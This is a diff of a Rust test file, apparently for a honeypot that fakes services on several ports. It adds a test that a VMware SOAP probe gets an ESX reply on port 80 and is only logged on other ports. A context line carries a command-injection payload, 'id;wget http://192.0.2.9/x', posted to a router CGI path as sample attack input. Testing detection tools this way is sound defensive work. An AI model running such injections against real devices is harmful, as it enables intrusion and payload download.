@@ -46,6 +46,19 @@ fn exploits_are_answered_and_recorded_whole_on_any_port() {
 }
 
 #[test]
+fn one_port_is_an_esx_host_and_the_others_lack_its_service_but_record_who_asks() {
+    let soap = "<soapenv:Body><RetrieveServiceContent xmlns=\"urn:vim25\"/></soapenv:Body>";
+    let asked = post("/sdk", "text/xml", soap);
+    assert!(text(&on("http", "", 80, asked.as_bytes())).contains("<name>VMware ESX</name>"));
+    for port in ODD {
+        let outcome = on("http", "", port, asked.as_bytes());
+        assert!(!text(&outcome).contains("VMware"), "{port}");
+        let event = outcome.the_event("request");
+        assert_eq!((&event.fields["family"], &event.fields["bytes"]), (&"vmware".into(), &soap.len().into()), "{port}");
+    }
+}
+
+#[test]
 fn ports_of_other_protocols_answer_no_request_and_record_it_whole() {
     let attack = post("/cgi-bin/luci", "text/plain", "id;wget http://192.0.2.9/x");
     for port in [3_389, 5_432, 6_379, 27_017] {
